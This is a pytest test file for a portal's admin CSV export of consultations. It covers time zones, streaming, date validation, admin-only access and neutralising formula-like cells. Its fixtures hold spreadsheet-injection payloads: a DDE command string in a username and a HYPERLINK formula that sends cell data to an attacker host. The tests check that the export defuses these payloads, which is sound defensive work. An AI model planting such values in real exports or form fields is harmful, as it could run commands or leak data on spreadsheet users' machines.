"""The consultations export: the days asked for in the admin's zone, a header row, times with their offset, the
status people see, cells a spreadsheet would run as formulas neutralised, streamed; bad dates get the form again."""

import csv
import io
import re
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from portal.blueprints.admin.export import HEADER, neutralised
from tests.factories import make_consultation, make_slot, make_user
from tests.support.auth import logged_in_browser

BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 11, 10, 0, tzinfo=BERLIN)


def at(day: int, hour: int, minute: int = 0, month: int = 10, fold: int = 0) -> datetime:
    return datetime(2026, month, day, hour, minute, fold=fold, tzinfo=BERLIN)


@pytest.fixture
def scene(app, db, clock):
    """An admin in Berlin and consultations requested around the days of the export, in every state."""
    clock.set(NOW)
    admin = make_user("admin", username="root", timezone="Europe/Berlin")
    specialist = make_user("specialist", username="=cmd|' /C calc'!A0")
    client = make_user("client", username="anna")
    other = make_user("client", username="@boris")

    def consultation(created: datetime, start: datetime, client=client, **values):
        slot = make_slot(specialist, starts_at=start, minutes=50)
        return make_consultation(slot, client, created_at=created, **values)

    made = {
        # Requested in the first second of 1 October in Berlin (22:00 UTC the day before): in.
        "first": consultation(at(1, 0, 0), at(20, 10, month=11)),
        # A second before it: out.
        "before": consultation(at(1, 0, 0) - timedelta(seconds=1), at(20, 11)),
        # The night the clocks go back: requested at 02:30 summer time, its slot an hour later, 02:30 winter time.
        "dst": consultation(at(25, 2, 30), at(25, 2, 30, fold=1), client=other, status="accepted"),
        "formula": consultation(
            at(20, 12),
            at(22, 14),
            status="cancelled",
            cancel_reason="Other",
            cancel_comment='=HYPERLINK("http://evil.example/?"&A1,"Click me")',
            cancelled_at=at(21, 8),
        ),
        "rejected": consultation(
            at(30, 23, 59), at(31, 10), status="rejected", reject_reason="+7 call me", rejected_at=at(31, 8)
        ),
        "expired": consultation(at(3, 9), at(4, 9, month=11)),  # pending, its slot began: Expired
        # 1 November 00:00 in Berlin, the day after the export's last day: out.
        "after": consultation(at(1, 0, 0, month=11), at(20, 9, month=11)),
    }
    return admin, made


def download(browser, start: str = "2026-10-01", end: str = "2026-10-31"):
    """The export, read to its end and closed (as a server does, which ends the request's database session)."""
    return browser.get(f"/admin/export/consultations.csv?from={start}&to={end}", buffered=True)


def parsed(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))


def test_the_export_holds_the_requests_of_the_days_asked_for(app, scene):
    admin, made = scene
    response = download(logged_in_browser(app, admin))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        response.headers["Content-Disposition"] == 'attachment; filename="consultations-2026-10-01-to-2026-10-31.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    assert response.get_data().startswith(b"\xef\xbb\xbfid,status,slot_start,")  # UTF-8 with its mark
    rows = parsed(response)
    assert tuple(rows[0]) == HEADER
    by_id = {int(row[0]): dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    wanted = ("first", "dst", "formula", "rejected", "expired")
    assert sorted(by_id) == sorted(made[name].id for name in wanted)

    first = by_id[made["first"].id]
    assert (first["status"], first["client"], first["created_at"]) == ("pending", "anna", "2026-10-01T00:00:00+02:00")
    assert (first["slot_start"], first["slot_end"]) == ("2026-11-20T10:00:00+01:00", "2026-11-20T10:50:00+01:00")
    dst = by_id[made["dst"].id]
    assert dst["created_at"] == "2026-10-25T02:30:00+02:00" and dst["slot_start"] == "2026-10-25T02:30:00+01:00"
    assert dst["status"] == "accepted" and dst["accepted_at"] == "2026-11-11T10:00:00+01:00"
    assert by_id[made["expired"].id]["status"] == "expired"  # what people see, not the stored "pending"
    formula = by_id[made["formula"].id]
    assert formula["cancel_comment"] == """'=HYPERLINK("http://evil.example/?"&A1,"Click me")"""
    assert (formula["status"], formula["cancel_reason"], formula["cancelled_at"]) == (
        "cancelled",
        "Other",
        "2026-10-21T08:00:00+02:00",
    )
    rejected = by_id[made["rejected"].id]
    assert rejected["reject_reason"] == "'+7 call me" and rejected["rejected_at"] == "2026-10-31T08:00:00+01:00"
    # Usernames are neutralised too (a specialist named like a formula, a client starting with @).
    assert formula["specialist"] == "'=cmd|' /C calc'!A0" and dst["client"] == "'@boris"


def test_the_export_is_streamed(client, auth, scene):
    """Written a batch of rows at a time as the cursor gives them, never built whole in memory."""
    admin, made = scene
    auth.login_as(admin)
    response = client.get("/admin/export/consultations.csv?from=2026-10-01&to=2026-10-31")
    try:
        assert response.is_streamed and "Content-Length" not in response.headers
        chunks = list(response.response)
    finally:
        response.close()
    # The header goes out first, on its own; then a chunk per batch of rows.
    assert chunks[0] == ("\ufeff" + ",".join(HEADER) + "\r\n").encode() and len(chunks) == 2


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+31 20 555", "'+31 20 555"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindent", "'\tindent"),
        ("\rreturn", "'\rreturn"),
        ("plain words", "plain words"),
        ("a=b", "a=b"),
        ("Ёлка", "Ёлка"),
    ],
)
def test_cells_a_spreadsheet_would_run_start_with_an_apostrophe(value, cell):
    assert neutralised(value) == cell


def test_one_day_and_days_with_nothing(app, scene):
    admin, made = scene
    browser = logged_in_browser(app, admin)
    rows = parsed(download(browser, "2026-10-25", "2026-10-25"))
    assert [int(row[0]) for row in rows[1:]] == [made["dst"].id]
    empty = download(browser, "2027-01-01", "2027-01-31")
    assert empty.status_code == 200 and parsed(empty) == [list(HEADER)]


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ("", "from", "Choose a date."),
        ("from=2026-10-01", "to", "Choose a date."),
        ("from=2026-13-01&to=2026-10-31", "from", "Not a valid date value."),
        ("from=2026-10-31&to=2026-10-01", "to", "“To” cannot be before “From”."),
        ("from=1999-12-31&to=2026-10-01", "from", "Enter a date between 2000 and 2199."),
        ("from=2026-10-01&to=9999-12-31", "to", "Enter a date between 2000 and 2199."),
        ("from=%00&to=2026-10-01", "from", "Not a valid date value."),
    ],
)
def test_bad_dates_show_the_overview_with_the_error_next_to_the_field(app, scene, query, field, message):
    admin, _ = scene
    response = logged_in_browser(app, admin).get(f"/admin/export/consultations.csv?{query}", buffered=True)
    assert response.status_code == 422 and response.mimetype == "text/html"
    html = response.get_data(as_text=True)
    assert f'<p class="field-error" id="{field}-error">{message}' in html
    assert f'id="{field}"' in html and 'aria-invalid="true"' in html
    assert "<h1>Overview</h1>" in html  # the page the form lives on, charts included
    assert html.count('<svg class="chart"') == 4


def test_the_overview_proposes_its_twelve_weeks(app, scene):
    admin, _ = scene
    html = logged_in_browser(app, admin).get("/admin").get_data(as_text=True)
    assert 'action="/admin/export/consultations.csv"' in html and 'method="get"' in html
    assert re.search(r'<input [^>]*name="from"[^>]*type="date" value="2026-08-24">', html)
    assert re.search(r'<input [^>]*name="to"[^>]*type="date" value="2026-11-11">', html)


@pytest.mark.parametrize("role", ["client", "specialist"])
def test_only_admins_may_export(app, scene, role):
    response = download(logged_in_browser(app, make_user(role)))
    assert response.status_code == 403 and "id,status" not in response.get_data(as_text=True)


def test_anonymous_visitors_are_sent_to_log_in(client, scene):
    response = download(client)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login?next=%2Fadmin%2Fexport%2Fconsultations.csv")
